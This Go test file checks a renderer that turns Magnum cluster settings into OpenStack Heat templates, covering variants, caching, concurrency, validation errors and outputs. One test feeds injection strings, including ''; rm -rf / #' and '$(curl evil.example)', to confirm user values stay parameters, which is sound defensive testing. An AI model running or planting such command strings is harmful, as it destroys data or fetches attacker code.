package heat

import (
	"errors"
	"fmt"
	"maps"
	"strings"
	"sync"
	"testing"
	"testing/fstest"

	"github.com/stretchr/testify/assert"
	"github.com/stretchr/testify/require"

	"github.com/gomagnum/magnum/errdefs"
)

func sampleRenderer(t testing.TB) *Renderer {
	t.Helper()
	r, err := NewRenderer(SampleTemplates(), SampleDefinition())
	require.NoError(t, err)
	return r
}

// allSampleOptions lists every structural variant of the sample.
func allSampleOptions() []SampleOptions {
	var out []SampleOptions
	for i := 0; i < 32; i++ {
		o := SampleOptions{
			Masters: 3, Workers: 2,
			MasterLB:        i&1 != 0,
			FloatingIP:      i&2 != 0,
			ExistingNetwork: i&4 != 0,
			TLSDisabled:     i&16 != 0,
		}
		if i&8 != 0 {
			o.DockerVolumeSize = 20
		}
		out = append(out, o)
	}
	return out
}

func TestRenderSampleVariants(t *testing.T) {
	r := sampleRenderer(t)
	for _, o := range allSampleOptions() {
		t.Run(fmt.Sprintf("%+v", o), func(t *testing.T) {
			out, err := r.Render(SampleInputs(o))
			require.NoError(t, err)
			req := out.Request

			// The request passes the check on its own, as heattest will run it.
			require.NoError(t, CheckNamed("cluster.yaml", req, out.Outputs))

			top, err := ParseTemplate("cluster.yaml", req.Template)
			require.NoError(t, err)
			has := func(name string) bool { return top.Resources[name] != nil }
			assert.Equal(t, o.MasterLB, has("api_lb"))
			assert.Equal(t, o.MasterLB, has("api_pool"))
			assert.Equal(t, o.MasterLB && o.FloatingIP, has("api_lb_floating_ip"))
			assert.Equal(t, !o.ExistingNetwork, has("private_network"))
			assert.Equal(t, !o.ExistingNetwork, has("router_interface"))
			assert.True(t, has("kube_masters") && has("kube_minions"))

			assert.ElementsMatch(t, []string{"master.yaml", "node.yaml", "fragments/bootstrap.sh"}, keys(req.Files))
			master, err := ParseTemplate("master.yaml", []byte(req.Files["master.yaml"]))
			require.NoError(t, err)
			assert.Equal(t, o.MasterLB, master.Resources["api_pool_member"] != nil)
			assert.Equal(t, o.MasterLB, master.Parameters["api_pool"] != nil)

			env, err := ParseEnvironment("env", req.Environment)
			require.NoError(t, err)
			wantFIP, wantVol := "OS::Heat::None", "OS::Heat::None"
			if o.FloatingIP {
				wantFIP = "OS::Neutron::FloatingIP"
			}
			if o.DockerVolumeSize > 0 {
				wantVol = "OS::Cinder::Volume"
			}
			assert.Equal(t, wantFIP, env.ResolveType("floating_ip", "Sample::Optional::FloatingIP"))
			assert.Equal(t, wantVol, env.ResolveType("docker_volume", "Sample::Optional::Volume"))

			p := req.Parameters
			assert.Equal(t, 3, p["number_of_masters"])
			assert.Equal(t, 2, p["number_of_minions"])
			assert.Equal(t, o.TLSDisabled, p["tls_disabled"])
			assert.Equal(t, map[bool]int{false: 6443, true: 8080}[o.TLSDisabled], p["kubernetes_port"])
			assert.Equal(t, []string{"8.8.8.8", "1.1.1.1"}, p["dns_nameserver"])
			if o.ExistingNetwork {
				assert.Equal(t, "cluster-net", p["fixed_network"])
			} else {
				assert.NotContains(t, p, "fixed_network")
			}
			if o.DockerVolumeSize > 0 {
				assert.Equal(t, 20, p["docker_volume_size"])
			} else {
				assert.NotContains(t, p, "docker_volume_size")
			}
			for _, k := range out.Outputs {
				assert.Contains(t, top.Outputs, k)
			}
			assert.Equal(t, o.MasterLB, out.Features["master_lb"])
		})
	}
}

func keys[V any](m map[string]V) []string { return sortedKeys(m) }

func TestRenderCachesVariants(t *testing.T) {
	r := sampleRenderer(t)
	variants := func() int {
		r.mu.Lock()
		defer r.mu.Unlock()
		return len(r.variants)
	}
	first, err := r.Render(SampleInputs(SampleOptions{Workers: 2}))
	require.NoError(t, err)
	assert.Equal(t, 1, variants())

	// Values that are not structural reuse the variant.
	_, err = r.Render(SampleInputs(SampleOptions{Workers: 40, Masters: 3, NodesToRemove: []string{"a"}}))
	require.NoError(t, err)
	assert.Equal(t, 1, variants())

	// A caller that changes its request does not change the cache.
	first.Request.Template[0] = '#'
	first.Request.Files["master.yaml"] = "changed"
	again, err := r.Render(SampleInputs(SampleOptions{Workers: 2}))
	require.NoError(t, err)
	assert.True(t, strings.HasPrefix(string(again.Request.Template), "heat_template_version"))
	assert.NotEqual(t, "changed", again.Request.Files["master.yaml"])

	_, err = r.Render(SampleInputs(SampleOptions{MasterLB: true}))
	require.NoError(t, err)
	assert.Equal(t, 2, variants())
}

func TestRenderConcurrent(t *testing.T) {
	r := sampleRenderer(t)
	opts := allSampleOptions()
	want := make([]*Rendered, len(opts))
	serial := sampleRenderer(t)
	for i, o := range opts {
		out, err := serial.Render(SampleInputs(o))
		require.NoError(t, err)
		want[i] = out
	}
	var wg sync.WaitGroup
	errs := make(chan error, 8)
	for g := 0; g < 8; g++ {
		wg.Add(1)
		go func(g int) {
			defer wg.Done()
			for n := 0; n < 40; n++ {
				i := (g*7 + n) % len(opts)
				out, err := r.Render(SampleInputs(opts[i]))
				if err != nil {
					errs <- err
					return
				}
				if string(out.Request.Template) != string(want[i].Request.Template) ||
					!maps.Equal(out.Request.Files, want[i].Request.Files) ||
					string(out.Request.Environment) != string(want[i].Request.Environment) {
					errs <- fmt.Errorf("variant %d differs", i)
					return
				}
			}
		}(g)
	}
	wg.Wait()
	close(errs)
	for err := range errs {
		t.Error(err)
	}
}

// Hostile user values must reach Heat only as parameters, never as template
// text: text templates see features only.
func TestRenderUserValuesStayParameters(t *testing.T) {
	// Each value carries a marker that no template contains, so that a
	// value that leaked into template text is found.
	hostile := []string{
		"zq1{{ .master_lb }}",
		"zq2\nresources:\n  evil: {type: OS::Nova::Server}",
		"zq3 {get_param: trust_id}",
		"zq4'; rm -rf / #",
		"zq5$(curl evil.example)",
		"zq6%index%",
	}
	r := sampleRenderer(t)
	for i, h := range hostile {
		t.Run(fmt.Sprint(i), func(t *testing.T) {
			in := SampleInputs(SampleOptions{MasterLB: true, FloatingIP: true})
			in.Cluster = Attrs{"uuid": h, "keypair": h, "labels": map[string]string{"k": h}, "coe_version": h}
			in.Template.(Attrs)["http_proxy"] = h
			in.Template.(Attrs)["network_driver"] = "calico"
			in.Labels["container_infra_prefix"] = h
			in.Extra["trust_id"] = h
			out, err := r.Render(in)
			require.NoError(t, err)
			marker := h[:3]
			assert.False(t, strings.Contains(string(out.Request.Template), marker), "value in the template")
			for name, f := range out.Request.Files {
				assert.False(t, strings.Contains(f, marker), "value in %s", name)
			}
			assert.False(t, strings.Contains(string(out.Request.Environment), marker), "value in the environment")
			assert.Equal(t, h, out.Request.Parameters["cluster_uuid"])
			assert.Equal(t, h, out.Request.Parameters["http_proxy"])
			assert.Equal(t, h, out.Request.Parameters["trust_id"])
			assert.Equal(t, map[string]any{"k": h}, out.Request.Parameters["node_labels"])
		})
	}
}

func TestRenderInputErrors(t *testing.T) {
	r := sampleRenderer(t)
	tests := []struct {
		name   string
		mutate func(in *Inputs)
		want   []string
	}{
		{"required template attribute", func(in *Inputs) { delete(in.Template.(Attrs), "external_network_id") },
			[]string{"external_network_id: required (Heat parameter external_network) but not set"}},
		{"required node group attribute", func(in *Inputs) { delete(in.NodeGroups, "worker") },
			[]string{"node_count: required (Heat parameter number_of_minions) but not set"}},
		{"constraint", func(in *Inputs) { in.NodeGroups["master"] = Attrs{"node_count": 9} },
			[]string{"parameters: number_of_masters: parameter number_of_masters must be in [1, 7]"}},
		{"allowed values", func(in *Inputs) { in.Labels["nodes_affinity_policy"] = "spread" },
			[]string{"parameters: nodes_affinity_policy: parameter nodes_affinity_policy must be one of the allowed values"}},
		{"label type", func(in *Inputs) { in.Labels["boot_volume_size"] = "big" },
			[]string{"labels.boot_volume_size: cannot be Heat parameter boot_volume_size (number): a string"}},
		{"feature input type", func(in *Inputs) { in.Template.(Attrs)["master_lb_enabled"] = "sometimes" },
			[]string{"master_lb_enabled: must be a boolean"}},
		{"several at once", func(in *Inputs) {
			delete(in.Extra, "auth_url")
			delete(in.Extra, "magnum_url")
		}, []string{"auth_url: required", "magnum_url: required"}},
	}
	for _, tc := range tests {
		t.Run(tc.name, func(t *testing.T) {
			in := SampleInputs(SampleOptions{})
			tc.mutate(&in)
			_, err := r.Render(in)
			require.Error(t, err)
			assert.True(t, errors.Is(err, errdefs.ErrInvalid))
			probs := errdefs.Problems(err)
			require.Len(t, probs, len(tc.want), "%v", err)
			for i, w := range tc.want {
				assert.Contains(t, probs[i].Error(), w)
			}
		})
	}
}

const miniTop = `heat_template_version: rocky
parameters:
  count: {type: number, default: 1}
  name: {type: string}
resources:
{{- if .extra }}
  extra:
    type: OS::Heat::None
{{- end }}
  nodes:
    type: OS::Heat::ResourceGroup
    properties:
      count: {get_param: count}
      resource_def:
        type: mini-node.yaml
        properties:
          name: {get_param: name}
outputs:
  names: {value: {get_attr: [nodes, name]}}
`

const miniNode = `heat_template_version: rocky
parameters:
  name: {type: string}
resources:
  s: {type: OS::Nova::Server, properties: {name: {get_param: name}}}
outputs:
  name: {value: {get_param: name}}
`

func miniDefinition() Definition {
	return Definition{
		Name:     "mini",
		Template: "top.yaml",
		Features: []Feature{BoolFeature("extra", IsTrue(Label("extra")))},
		Params: []ParamMapping{
			Param("count", Number, NodeGroupAttr("worker", "node_count")),
			RequiredParam("name", String, ClusterAttr("name")),
		},
		Outputs: []OutputMapping{MapOutput("names", ClusterAttr("names"), Raw)},
	}
}

func miniInputs(extra bool) Inputs {
	return Inputs{
		Cluster:    Attrs{"name": "c"},
		NodeGroups: map[string]Attributes{"worker": Attrs{"node_count": 2}},
		Labels:     map[string]string{"extra": fmt.Sprint(extra)},
	}
}

func TestRenderBrokenTemplates(t *testing.T) {
	tests := []struct {
		name   string
		fs     fstest.MapFS
		def    func(d *Definition)
		extra  bool
		newErr string   // error from NewRenderer
		want   []string // problems from Render
	}{
		{"works", fstest.MapFS{"top.tmpl.yaml": {Data: []byte(miniTop)}, "mini-node.yaml": {Data: []byte(miniNode)}}, nil, true, "", nil},
		{"go template syntax", fstest.MapFS{"top.tmpl.yaml": {Data: []byte("{{ if }}")}}, nil, false,
			"top.tmpl.yaml: not a valid Go template", nil},
		{"top-level template missing", fstest.MapFS{"other.yaml": {Data: []byte(miniNode)}}, nil, false,
			`definition mini: Template: neither "top.yaml" nor its .tmpl form is in the file system`, nil},
		{"a template and a plain file under one name", fstest.MapFS{
			"top.tmpl.yaml":       {Data: []byte(miniTop)},
			"sub/node.tmpl.yaml":  {Data: []byte(miniNode)},
			"sub/node.yaml":       {Data: []byte(miniNode)},
			"sub/other.tmpl.yaml": {Data: []byte(miniNode)},
		}, nil, false, "sub/node.yaml: both a Go template and a plain file are sent under this name", nil},
		{"invalid definition", fstest.MapFS{"top.tmpl.yaml": {Data: []byte(miniTop)}}, func(d *Definition) { d.Params[0].Type = "int" }, false,
			`definition mini: Params[0]: "int" is not a Heat parameter type`, nil},
		{"undefined feature in a template", fstest.MapFS{
			"top.tmpl.yaml":  {Data: []byte(strings.Replace(miniTop, ".extra", ".extras", 1))},
			"mini-node.yaml": {Data: []byte(miniNode)},
		}, nil, false, "", []string{`definition mini: top.yaml: template execution failed: template: top.yaml:6:7: executing "top.yaml" at <.extras>: map has no entry for key "extras"`}},
		{"nested template missing", fstest.MapFS{"top.tmpl.yaml": {Data: []byte(miniTop)}}, nil, false, "",
			[]string{`top.yaml: resources.nodes.properties.resource_def.type: nested template "mini-node.yaml" is not in files`}},
		{"bad reference in a nested template, only in one variant", fstest.MapFS{
			"top.tmpl.yaml":       {Data: []byte(miniTop)},
			"mini-node.tmpl.yaml": {Data: []byte(strings.Replace(miniNode, "properties: {name: {get_param: name}}", "properties: {name: {get_param: nmae}}{{ if .extra }}x{{ end }}", 1))},
		}, nil, false, "", []string{`mini-node.yaml: resources.s.properties.name.get_param: get_param "nmae" is not a declared parameter`}},
		{"mapped parameter not declared", fstest.MapFS{"top.tmpl.yaml": {Data: []byte(miniTop)}, "mini-node.yaml": {Data: []byte(miniNode)}},
			func(d *Definition) { d.Params = append(d.Params, Param("flavor", String, Constant("m1"))) }, false, "",
			[]string{`top.yaml: parameters: the definition maps "flavor", which the template does not declare`}},
		{"mapped parameter of another type", fstest.MapFS{"top.tmpl.yaml": {Data: []byte(miniTop)}, "mini-node.yaml": {Data: []byte(miniNode)}},
			func(d *Definition) { d.Params[0].Type = String }, false, "",
			[]string{"top.yaml: parameters.count: declared number, the definition converts to string"}},
		{"mapped output missing", fstest.MapFS{"top.tmpl.yaml": {Data: []byte(miniTop)}, "mini-node.yaml": {Data: []byte(miniNode)}},
			func(d *Definition) {
				d.Outputs = append(d.Outputs, MapOutput("api_address", ClusterAttr("api_address"), Text))
			}, false, "",
			[]string{`top.yaml: outputs: output "api_address" that the driver maps is not defined`}},
		{"stack parameter read back is not declared", fstest.MapFS{"top.tmpl.yaml": {Data: []byte(miniTop)}, "mini-node.yaml": {Data: []byte(miniNode)}},
			func(d *Definition) {
				d.Outputs = append(d.Outputs, MapParam("number_of_minions", NodeGroupAttr("worker", "node_count"), Integer))
			}, false, "",
			[]string{`top.yaml: parameters: the definition reads stack parameter "number_of_minions", which the template does not declare`}},
	}
	for _, tc := range tests {
		t.Run(tc.name, func(t *testing.T) {
			def := miniDefinition()
			if tc.def != nil {
				tc.def(&def)
			}
			r, err := NewRenderer(tc.fs, def)
			if tc.newErr != "" {
				require.Error(t, err)
				assert.True(t, errors.Is(err, errdefs.ErrInvalid))
				assert.Contains(t, err.Error(), tc.newErr)
				return
			}
			require.NoError(t, err)
			out, err := r.Render(miniInputs(tc.extra))
			if len(tc.want) == 0 {
				require.NoError(t, err)
				assert.Contains(t, string(out.Request.Template), "extra:")
				assert.Equal(t, map[string]any{"count": 2, "name": "c"}, out.Request.Parameters)
				return
			}
			require.Error(t, err)
			assert.True(t, errors.Is(err, errdefs.ErrInvalid))
			probs := errdefs.Problems(err)
			require.Len(t, probs, len(tc.want), "%v", err)
			for i, w := range tc.want {
				assert.Contains(t, probs[i].Error(), w)
			}
			// A broken variant stays broken: the failure is cached, not retried.
			_, again := r.Render(miniInputs(tc.extra))
			assert.Equal(t, err.Error(), again.Error())
		})
	}
}

func TestRendererParams(t *testing.T) {
	r := sampleRenderer(t)
	in := SampleInputs(SampleOptions{Workers: 4, NodesToRemove: []string{"srv-1", "srv-2"}})
	p, err := r.Params(in, "number_of_minions", "minions_to_remove")
	require.NoError(t, err)
	assert.Equal(t, map[string]any{"number_of_minions": 4, "minions_to_remove": []string{"srv-1", "srv-2"}}, p)

	_, err = r.Params(in, "number_of_minions", "nodes")
	require.Error(t, err)
	assert.True(t, errors.Is(err, errdefs.ErrInvalid))
	assert.Contains(t, err.Error(), "parameters nodes are not mapped")

	in.NodeGroups["worker"] = Attrs{"node_count": 501}
	_, err = r.Params(in, "number_of_minions")
	require.Error(t, err)
	assert.Contains(t, err.Error(), "parameters: number_of_minions: parameter number_of_minions must be in [0, 500]")
}

func TestRenderOutputsRoundTrip(t *testing.T) {
	r := sampleRenderer(t)
	in := SampleInputs(SampleOptions{FloatingIP: true, MasterLB: true})
	out, err := r.Render(in)
	require.NoError(t, err)
	features, err := r.Definition().Resolve(in)
	require.NoError(t, err)
	assert.Equal(t, out.Features, features)

	// What Heat would return for this stack.
	stack := &Stack{ID: "s", Outputs: map[string]any{
		"api_address":  "172.24.4.50",
		"kube_masters": []any{"172.24.4.11"},
		"kube_minions": []any{"172.24.4.21"},
	}, Parameters: map[string]string{"number_of_masters": "1", "number_of_minions": "1"}}
	vals, err := r.Definition().ApplyOutputs(stack, features)
	require.NoError(t, err)
	assert.Equal(t, "https://172.24.4.50:6443", vals.Cluster["api_address"])
	assert.Equal(t, []string{"172.24.4.21"}, vals.Cluster["node_addresses"])
}
